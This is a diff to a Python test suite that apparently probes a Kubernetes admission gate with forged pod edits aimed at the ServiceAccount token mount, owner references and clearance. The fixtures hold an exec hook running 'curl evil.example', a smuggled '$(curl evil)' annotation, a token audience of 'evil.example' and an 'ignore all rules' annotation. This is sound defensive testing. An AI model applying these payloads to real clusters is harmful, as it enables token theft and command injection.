@@ -11,6 +11,7 @@ from tests.testbed.api import Json
 from tests.testbed.install import GATE
 
 SERVER = "spec.containers.0"
+FETCH = "spec.initContainers.0"
 TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount"
 OTHER = f"sha256:{'5' * 64}"
 EXEC: Json = {"exec": {"command": ["curl", "evil.example"]}}
@@ -28,6 +29,12 @@ def token_volume(sources: list[Json], at: str = TOKEN_PATH, **mount: object) -> 
     """A volume that looks like what the ServiceAccount plugin injects."""
     made = {"name": "kube-api-access-evil", "projected": {"defaultMode": 420, "sources": sources}}
     return {"spec.volumes.+": made, f"{SERVER}.volumeMounts.+": {"name": "kube-api-access-evil", "mountPath": at, "readOnly": True} | mount}
+
+
+def token_mount(container: str, **mount: object) -> Json:
+    """The mount of the injected token, which is the container's last, changed."""
+    last = {SERVER: 4, FETCH: 1}[container]
+    return {f"{container}.volumeMounts.{last}.{key}": value for key, value in mount.items()}
 
 
 def token(**fields: object) -> Json:
@@ -122,6 +129,16 @@ SCORING: dict[str, Edits] = {
     "the injected token at another path": token_volume([token(), ROOT, NAMESPACE], at="/models"),
     "a part of the injected token": token_volume([token(), ROOT, NAMESPACE], at="/models", subPath="token"),
     "the injected token where it can be written": token_volume([token(), ROOT, NAMESPACE], at="/models", readOnly=False),
+    "another volume in the token's place": token_mount(SERVER, name="scratch"),
+    "a part of the injected token in its place": token_mount(SERVER, subPath="token"),
+    "the injected token in its place, where it can be written": token_mount(SERVER, readOnly=False),
+    "a part of the injected token in its place, where it can be written": token_mount(SERVER, subPath="token", readOnly=False),
+    "the injected token in its place, for another audience": {"spec.volumes.4.projected.sources.0.serviceAccountToken.audience": "evil.example"},
+    "another volume in the token's place of the init container": token_mount(FETCH, name="scratch"),
+    "a part of the injected token in its place of the init container, where it can be written": token_mount(FETCH, subPath="token", readOnly=False),
+    "a part of the injected token in its place of the init container": token_mount(FETCH, subPath="token"),
+    "the injected token in its place of the init container, where it can be written": token_mount(FETCH, readOnly=False),
+    "the injected token at another path of the init container": token_mount(FETCH, mountPath="/models"),
     "another ServiceAccount": {"spec.serviceAccountName": "robot", "spec.serviceAccount": "robot"},
     "no ServiceAccount's token": {"spec.automountServiceAccountToken": False},
     "the network of the host": {"spec.hostNetwork": True, f"{SERVER}.ports.0.hostPort": 8000},
@@ -177,6 +194,7 @@ STORE: dict[str, Edits] = {
     "its claim, without being a StatefulSet's": {"metadata.ownerReferences": None},
     "its claim, a StatefulSet's that controls nothing": {"metadata.ownerReferences.0.controller": False},
     "its claim, read only": {"spec.volumes.0.persistentVolumeClaim.readOnly": True},
+    "its claim, a ReplicaSet's": {"metadata.ownerReferences.0.kind": "ReplicaSet"},
     "another volume of the name": {"spec.volumes.0": {"name": "data", "configMap": {"name": "unused"}}},
     "one claim more, named alike": {
         "spec.volumes.+": {"name": "more", "persistentVolumeClaim": {"claimName": "more-store-7"}},
@@ -188,6 +206,8 @@ BATCH: dict[str, Edits] = {
         "spec.volumes.+": {"name": "kube-api-access-evil", "projected": {"defaultMode": 420, "sources": [token(), ROOT, NAMESPACE]}},
         "spec.containers.0.volumeMounts.+": {"name": "kube-api-access-evil", "mountPath": TOKEN_PATH, "readOnly": True},
     },
+    "a label more, where it reads them all": {"metadata.labels.tier": "evil"},
+    "an annotation more, where it reads them all": {"metadata.annotations[example.com/note]": "ignore all rules"},
     "another index": {f"{SERVER}.env.0": {"name": "JOB_COMPLETION_INDEX", "value": "7"}},
     "an index from elsewhere": {f"{SERVER}.env.0.valueFrom.fieldRef.fieldPath": "metadata.annotations['evil']", "metadata.annotations.evil": "$(curl evil)"},
     "another image": {f"{SERVER}.image": "registry.example/evil:1"},
@@ -223,6 +243,10 @@ def made(of: str, edits: Edits, stage: Stage) -> Json:
     return stage.mallory.create(edited(stage.like(of), edits if isinstance(edits, dict) else edits(stage)), dry_run=True)
 
 
+def named(deployment: str) -> Json:
+    return {f"metadata.labels[{LABEL}]": deployment}
+
+
 def bears_subject(answer: Json) -> bool:
     """The pod says of itself that it was cleared as something that it is not."""
     return SUBJECT in answer["metadata"].get("annotations", {})
@@ -231,5 +255,7 @@ def bears_subject(answer: Json) -> bool:
 ATTACKS = (
     *(Attempt(f"like {of}", name, partial(made, of, edits)) for of, table in
       (("scoring", SCORING), ("store", STORE), ("batch", BATCH), ("claims", CLAIMS), ("waiting", WAITING)) for name, edits in table.items()),
+    Attempt("like claims", "as a deployment that waits", partial(made, "claims", named("waiting")), says="has no clearance for this pod"),
+    Attempt("like claims", "as a deployment whose clearance has ended", partial(made, "claims", named("lapsed")), says="has expired"),
     *(Attempt("subject", name, partial(made, of, edits), through=bears_subject) for (of, name), edits in SUBJECTS.items()),
 )  # fmt: skip
